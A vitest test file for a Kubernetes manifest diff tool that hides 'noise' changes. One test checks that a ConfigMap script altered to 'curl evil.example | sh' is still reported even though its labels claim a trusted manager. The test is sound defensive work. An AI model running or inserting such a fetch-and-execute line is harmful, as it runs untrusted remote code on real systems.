import { globSync } from "node:fs";
import { basename } from "node:path";
import { describe, expect, test } from "vitest";
import type { FoldedObject } from "../src/index.ts";
import { deltaOf, noises, pointerOf, reportOf } from "../src/index.ts";
import { readFixture, sideOfTexts } from "./fixture.ts";

const fixtures = `${import.meta.dirname}/noise`;
const names = noises.map(({ name }) => name);

/** `whole <file>` or `part <file> <pointer>`, for one reason. */
const linesOf = ({ one, noise, quiet }: FoldedObject, reason: string): readonly string[] => [
  ...(noise === reason ? [`whole ${one.after}`] : []),
  ...(quiet?.[reason] ?? []).map((index) => `part ${one.after} ${pointerOf(one.changes[index]?.path ?? [])}`),
];

test("the registry is sorted, and holds the file and the fixture of each", () => {
  expect(names).toEqual([...new Set(names)].toSorted());
  const files = globSync("*.ts", { cwd: `${import.meta.dirname}/../src/noise` }).map((file) => basename(file, ".ts"));
  expect(files.filter((file) => !/^noise|^hidden/.test(file)).toSorted()).toEqual(names);
  const cases = globSync("*.yaml", { cwd: fixtures }).map((file) => basename(file, ".yaml"));
  expect(cases.toSorted()).toEqual(names);
});

describe.each(noises)("$name", ({ name, reason }) => {
  test.each(readFixture(`${fixtures}/${name}.yaml`))("$title", ({ delta, expected }) => {
    const { objects, hidden } = reportOf(delta);
    expect(objects.flatMap((object) => linesOf(object, reason))).toEqual(expected);
    expect(hidden.filter((one) => one.reason === reason).map((one) => one.objects + one.changes)).toEqual(
      expected.length === 0 ? [] : [1],
    );
  });
});

test("a script that says it is of meshwright is no noise: in a pull request anybody may say so", () => {
  const side = (script: string) =>
    sideOfTexts("side", {
      "cluster-a/00-network/configmap-meshwright-gates-gate.yaml": JSON.stringify({
        apiVersion: "v1",
        kind: "ConfigMap",
        metadata: {
          name: "gate",
          namespace: "meshwright-gates",
          labels: { "app.kubernetes.io/managed-by": "meshwright" },
        },
        data: { "gate.sh": script },
      }),
    });
  const { objects, hidden } = reportOf(deltaOf(side("exit 0\n"), side("curl evil.example | sh\nexit 0\n")));
  expect(objects).toHaveLength(1);
  expect(objects[0]?.noise).toBeUndefined();
  expect(hidden).toEqual([]);
});
